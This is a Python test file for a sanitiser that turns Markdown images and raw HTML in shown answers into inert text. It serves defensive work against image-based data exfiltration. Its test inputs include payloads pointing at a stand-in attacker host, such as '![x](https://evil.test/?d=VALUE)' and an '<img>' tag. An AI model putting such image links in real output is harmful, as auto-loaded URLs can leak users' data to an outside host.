"""Answers that load nothing when they are shown (CASES I4, I5)."""

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from lumina.server.inert import Inert, inert

PIECES = st.lists(
    st.sampled_from(
        ["!", "[", "x", "](https://evil.test/?d=1)", "\n", "```", "~~~", "`", " ", "<img src=x>", "<", "- ", "> ",
         "    ", "[1]", "\r", "[x]: https://evil.test/", "\\", "<!--", "-->", "\t"]
    ), max_size=14,
)  # fmt: skip


@settings(max_examples=100)
@given(PIECES)
def test_i4_nothing_that_is_shown_is_loaded_and_no_offset_moves(pieces):
    """A reader of Markdown finds no image and no HTML, whatever is around it, in whatever pieces it arrives."""
    text = "".join(pieces)
    reading = Inert()
    shown = "".join(reading.feed(piece) for piece in pieces) + reading.end()
    assert shown == inert(text)
    assert len(shown) == len(text)
    html = MarkdownIt("commonmark").render(shown)
    assert "<img" not in html


def test_i5_an_image_becomes_a_link_that_a_person_may_open():
    assert inert("See ![x](https://evil.test/?d=VALUE).") == "See ！[x](https://evil.test/?d=VALUE)."
    assert inert('<IMG src="//evil.test">') == '‹IMG src="//evil.test">'


def test_code_in_a_fence_and_plain_prose_stay_as_they_are():
    for text in ("```rust\nlet a = vec![1];\n<b>\n```\nGood! 1 < 2, a <- b", "Yes! [1]", "!"):
        assert inert(text) == text
    assert inert("```\nx\n```\n![x](y)").endswith("！[x](y)")
